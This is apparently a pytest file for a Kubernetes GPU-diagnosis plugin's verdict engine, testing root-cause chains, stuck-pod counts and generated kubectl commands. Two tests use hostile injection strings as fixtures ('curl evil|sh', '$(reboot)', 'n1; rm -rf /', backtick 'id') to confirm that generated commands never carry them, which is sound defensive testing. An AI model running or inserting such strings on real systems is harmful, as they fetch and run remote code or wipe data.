"""The verdict engine (analysis/verdict/) on the 1.35 captures and on synthetic chains.

What it must get right: the root cause is the finding nothing else explains (the known-bad
driver, not the kubelet symptom it causes), the impact counts the stuck pods from the
findings' evidence, and every command is built from our templates and validated names only.
"""
from __future__ import annotations

import dataclasses
import json

import pytest

from kubectl_gpudoctor.analysis import verdict
from kubectl_gpudoctor.analysis.stuck import wedge
from kubectl_gpudoctor.analysis.verdict import Action, decide
from node_probe.protocol import catalog

from .test_captures import NODE, Stage, with_gfd

NODE_TARGET = {"kind": "node", "name": NODE, "node": NODE}


def wedged(stage_name: str):
    s = Stage(stage_name)
    fs = s.api_findings()
    fs += wedge.known_bad_driver(with_gfd(s.node), fs)
    d = wedge.decide(NODE, fs, s.pods)
    fs.append(wedge.not_created_finding(NODE, d))
    return fs


def f(id_: str, sev: str = "critical", subject: str = "node", **ev):
    return catalog.make(id_, sev, subject, f"{id_} title", ev)


@pytest.mark.parametrize("stage", ["wedged-20s", "wedged-3m"])
def test_wedge_root_cause_is_the_known_bad_driver(stage):
    v = decide(wedged(stage), NODE_TARGET)
    assert v.root_cause == "driver.known_bad" and v.severity == "critical"
    assert v.chain[0] == "driver.known_bad"
    assert "kubelet.blocked_in_device_plugin" in v.chain and "probe.pod_not_started" in v.chain
    assert v.chain.index("kubelet.blocked_in_device_plugin") < v.chain.index(
        "probe.pod_not_started")
    if stage == "wedged-3m":
        assert "kubelet.admission_stalled" in v.chain
    # the labels say the driver and the layout; the node side did not confirm it: "Likely"
    assert v.headline.startswith("Likely: known-bad NVIDIA driver 570.158.01 (MIG slices "
                                 "mixed with full GPUs) hangs the device plugin in NVML")
    assert "2 pods stuck (1 with GPUs, 1 without)" in v.headline
    assert dict(v.impact) == {"pods": 2, "gpu_pods": 1, "non_gpu_pods": 1}
    steps = [a.step for a in v.actions]
    assert steps == sorted(steps, key=verdict.STEPS.index)
    assert v.actions[0].command == f"kubectl cordon {NODE}"
    fix = [a for a in v.actions if a.step == "fix"]
    assert any("570.172.08" in a.text for a in fix)
    cmds = [a.command for a in v.actions if a.command]
    assert f"ssh {NODE} sudo kubectl-gpu_doctor local" in cmds
    assert "kubectl gpu-doctor agent install" in cmds
    assert [a.step for a in v.actions if a.command == "kubectl gpu-doctor agent install"] == \
        ["prevent"]
    assert f"kubectl gpu-doctor node {NODE}" in cmds
    assert all(a.risk for a in v.actions)


def test_healthy_capture_gets_an_all_clear_verdict():
    fs = Stage("healthy").api_findings()
    assert fs and all(x.severity.value in ("info", "ok") for x in fs)
    v = decide(fs, NODE_TARGET)
    assert v.root_cause is None and v.severity == "ok" and v.actions == () and v.chain == ()
    assert v.headline == f"No problem found on node {NODE}"
    incomplete = decide(fs, NODE_TARGET, complete=False)
    assert incomplete.severity == "info" and "incomplete" in incomplete.headline


def test_known_bad_driver_waiting_on_a_healthy_node_is_the_root_cause():
    s = Stage("healthy")
    fs = s.api_findings()
    fs += wedge.known_bad_driver(with_gfd(s.node), fs)
    v = decide(fs, NODE_TARGET)
    assert v.root_cause == "driver.known_bad" and v.severity == "warning"
    assert v.impact["pods"] == 0 and "stuck" not in v.headline
    assert any("570.172.08" in a.text for a in v.actions if a.step == "fix")


def test_cgroup_chain_roots_at_the_cpu_manager_and_names_device_specs():
    fs = [f("cuda.call_failed"), f("container.nvidia_eperm"), f("cgroup.device_denied"),
          f("cgroup.device_rules_rewritten"), f("kubelet.cpu_manager_static", "warning")]
    v = decide(fs, {"kind": "pod", "name": "team-a/train-0", "node": "gpu-1"})
    assert v.root_cause == "kubelet.cpu_manager_static"
    assert v.chain == ("kubelet.cpu_manager_static", "cgroup.device_rules_rewritten",
                       "cgroup.device_denied", "container.nvidia_eperm", "cuda.call_failed")
    assert v.severity == "critical" and "CUDA and NVML calls fail" in v.headline
    assert v.subject == "pod team-a/train-0"
    assert any("PASS_DEVICE_SPECS=true" in a.text for a in v.actions)
    assert "kubectl delete pod train-0 -n team-a" in [a.command for a in v.actions]
    assert "kubectl gpu-doctor pod train-0 -n team-a" in [a.command for a in v.actions]


def test_caused_by_evidence_links_findings_no_chain_knows():
    fs = [f("hami.lock_stale", caused_by=["gpu.health"]), f("gpu.health", "warning")]
    v = decide(fs, NODE_TARGET)
    assert v.root_cause == "gpu.health" and v.chain == ("gpu.health", "hami.lock_stale")
    assert v.severity == "critical"  # the chain's worst, not the root's
    # the page is a reference beside the actions, never one of them
    assert v.page == "kubectl gpu-doctor explain gpu.health"
    assert not any("explain" in (a.command or "") for a in v.actions)


def test_memory_chain_needs_every_link():
    chain = [f("node.not_ready"), f("memory.pressure", "warning"),
             f("memory.overcommit", "info")]
    v = decide(chain, NODE_TARGET)
    assert v.root_cause == "memory.overcommit"
    assert v.chain == ("memory.overcommit", "memory.pressure", "node.not_ready")
    assert "the node is NotReady" in v.headline
    assert v.actions[0].command == f"kubectl cordon {NODE}"
    # without the pressure between them, overcommit does not explain NotReady
    v = decide([chain[0], chain[2]], NODE_TARGET)
    assert v.root_cause == "node.not_ready" and v.chain == ("node.not_ready",)
    assert f"kubectl describe node {NODE}" in [a.command for a in v.actions]


def test_hostile_names_and_evidence_never_reach_a_command():
    fs = [f("driver.known_bad", driver_version="570.158.01; curl evil|sh", trigger_present=True,
            caused=["kubelet.blocked_in_device_plugin", "$(reboot)"]),
          f("kubelet.blocked_in_device_plugin", caused_by=["not.an.id"],
            pods_waiting=[{"pod": "ns/p", "gpu": {"nvidia.com/gpu": "1"}}, "junk", 7])]
    for target in ({"kind": "node", "name": "n1; rm -rf /", "node": "n1; rm -rf /"},
                   {"kind": "pod", "name": "ns/$(reboot)", "node": None},
                   {"kind": "node", "name": "`id`"}, {}):
        v = decide(fs, target)
        assert v.root_cause == "driver.known_bad"
        assert "curl" not in v.headline and "reboot" not in json.dumps(v.to_dict())
        for a in v.actions:
            assert a.command is None or a.command.startswith(("kubectl ", "ssh "))
            assert a.command is None or not ({";", "|", "`", "$"} & set(a.command))
        assert not any(a.command == "kubectl cordon" for a in v.actions)
    assert decide(fs, {}).impact == {"pods": 1, "gpu_pods": 1, "non_gpu_pods": 0}


def test_a_valid_name_with_shell_meaning_is_quoted():
    # a valid node name cannot hold shell syntax; quoting keeps it literal anyway
    v = decide([f("node.not_ready")], {"kind": "node", "name": "gpu-1.example"})
    assert "kubectl cordon gpu-1.example" in [a.command for a in v.actions]


def test_verdict_is_frozen_and_serialises():
    v = decide(wedged("wedged-3m"), NODE_TARGET)
    doc = json.loads(json.dumps(v.to_dict()))
    assert doc["root_cause"] == "driver.known_bad" and doc["actions"][0]["stage"] == "stop"
    assert doc["actions"][0]["step"] == "mitigate"  # `stage` keeps the names bots knew
    # the fields bots had, plus `cleared` and `page` (added, nothing renamed)
    assert set(doc) == {"headline", "root_cause", "subject", "severity", "impact", "actions",
                        "chain", "cleared", "page"}
    assert set(doc["actions"][0]) == {"stage", "step", "text", "command", "risk"}
    with pytest.raises(dataclasses.FrozenInstanceError):
        v.headline = "x"  # type: ignore[misc]
    with pytest.raises(ValueError):
        Action("later", "x", None, "none")


def test_a_cycle_in_caused_by_still_gives_one_root():
    fs = [f("gpu.health", caused_by=["gpu.xid"]), f("gpu.xid", caused_by=["gpu.health"])]
    v = decide(fs, NODE_TARGET)
    assert v.root_cause in ("gpu.health", "gpu.xid") and len(set(v.chain)) == len(v.chain)


def test_a_root_cause_id_outside_the_catalog_gets_no_explain_command():
    """A node (a hostile agent) can send any well-formed id: the verdict never suggests
    `explain` for it, as if the page were ours, and never builds a command from it."""
    from node_probe.protocol import Finding, Severity

    from kubectl_gpudoctor.analysis import verdict
    forged = Finding(id="vendor.made_up", severity=Severity.CRITICAL, subject="node/gpu-1",
                     title="forged", evidence={}, remediation="curl evil | sh")
    v = verdict.decide([forged], {"kind": "node", "name": "gpu-1", "node": "gpu-1"})
    commands = [a.command or "" for a in v.actions]
    assert not any("vendor.made_up" in c for c in commands), commands
    assert not any("evil" in c for c in commands)
